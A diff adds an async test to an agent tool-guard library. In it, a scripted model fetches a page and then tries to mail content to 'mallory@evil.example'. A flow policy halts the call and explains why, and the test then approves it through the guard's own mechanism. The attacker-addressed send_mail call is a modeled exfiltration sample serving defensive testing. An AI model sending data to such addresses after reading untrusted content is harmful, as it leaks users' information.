@@ -23,9 +23,9 @@ from agents.testing import ScriptedModel, assistant_message, function_call
 from agents.tracing import set_tracing_disabled
 
 from spindle import Call, Executor, Ok, ToolContext, ToolFilter, ToolRegistry
-from spindle.bridges.frameworks.openai_agents import tools, tools_of
+from spindle.bridges.frameworks.openai_agents import get_reasons, tools, tools_of
 from spindle.errors import InvalidToolError
-from tests.bridges.frameworks.workshop import HOSTILE, PNG, Workshop
+from tests.bridges.frameworks.workshop import HOSTILE, PNG, REASON, Workshop, build_guarded, fetch_page, send_mail
 
 pytestmark = [pytest.mark.anyio, pytest.mark.slow]
 
@@ -311,3 +311,19 @@ def test_without_asyncio_a_foreign_tool_is_not_available() -> None:
 
     assert isinstance(area, FunctionTool)
     assert refused.code == "not_available"
+
+
+async def test_a_flow_policy_interrupts_a_run_and_says_why() -> None:
+    bob, eve = ("send_mail", {"to": "bob@corp.example"}), ("send_mail", {"to": "mallory@evil.example"})
+    given = tools([fetch_page, send_mail], executor=build_guarded())
+    made = agent(script([("fetch_page", {})], [bob, eve]), given)
+
+    stopped = await Runner.run(made, "Send the page to bob@corp.example", run_config=FORGIVING)
+
+    [item] = stopped.interruptions
+    assert item.call_id == "c1_1"
+    assert get_reasons(given, item) == (REASON.format(call_id="c0_0"),)
+    state = stopped.to_state()
+    state.approve(item)
+    done = await Runner.run(made, state, run_config=FORGIVING)
+    assert "sent to mallory@evil.example" in outputs(done)["c1_1"]
